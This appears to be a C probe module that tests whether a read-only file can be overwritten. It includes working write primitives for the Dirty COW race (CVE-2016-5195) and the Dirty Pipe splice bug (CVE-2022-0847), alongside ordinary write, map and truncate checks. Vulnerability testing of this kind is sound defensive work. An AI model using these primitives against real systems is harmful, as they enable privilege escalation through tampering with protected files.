/* Every way to change a file whose pages are shared, by right and by the known faults of kernels.
 */
#include "probe.h"

#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

enum {
	RACE_MS = 300,
	PIPE_BYTES = 65536,
};

static char *mapped;
static volatile int racing;

static void *forget_pages(void *argument)
{
	while (racing)
		madvise(mapped, 1, MADV_DONTNEED);
	return argument;
}

static long now_ms(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

/* A private mapping is written while its pages are dropped (CVE-2016-5195). */
static void race_copies(const char *path)
{
	int file = open(path, O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
	long end = now_ms() + RACE_MS, written = 0;
	pthread_t other;

	mapped = mmap(NULL, 1, PROT_READ, MAP_PRIVATE, file, 0);
	racing = 1;
	if (mapped == MAP_FAILED || memory < 0 || pthread_create(&other, NULL, forget_pages, NULL))
		return;
	while (now_ms() < end)
		written += pwrite(memory, "R", 1, (off_t)(uintptr_t)mapped) == 1;
	racing = 0;
	pthread_join(other, NULL);
	dprintf(STDOUT_FILENO, "raced %d\n", written > 0 ? 0 : 1);
	close(file);
	close(memory);
}

/* A page of the file in a pipe is taken for a page of the pipe (CVE-2022-0847). */
static void write_to_pipe(const char *path)
{
	static char filler[PIPE_BYTES];
	int file = open(path, O_RDONLY), ends[2];
	off_t at = 0;

	if (pipe(ends) < 0)
		return;
	/* Marks every buffer of the pipe as one that may be added to. */
	(void)!write(ends[1], filler, sizeof(filler));
	(void)!read(ends[0], filler, sizeof(filler));
	report(splice(file, &at, ends[1], NULL, 1, 0), "splice");
	report(write(ends[1], "P", 1), "append");
	close(file);
	close(ends[0]);
	close(ends[1]);
}

/* `scribble <path> [open]`: with `open` by right as well, which changes what the caller owns. */
int run_scribble(int argc, char **argv)
{
	int file;
	char *page;

	if (argc < 1)
		return 2;
	race_copies(argv[0]);
	write_to_pipe(argv[0]);
	if (argc < 2)
		return 0;
	file = open(argv[0], O_RDWR);
	report(file, "open");
	report(pwrite(file, "W", 1, 0), "write");
	page = mmap(NULL, 1, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
	report(page == MAP_FAILED ? -1 : 0, "map");
	if (page != MAP_FAILED)
		*page = 'M';
	report(ftruncate(file, 1), "truncate");
	return 0;
}
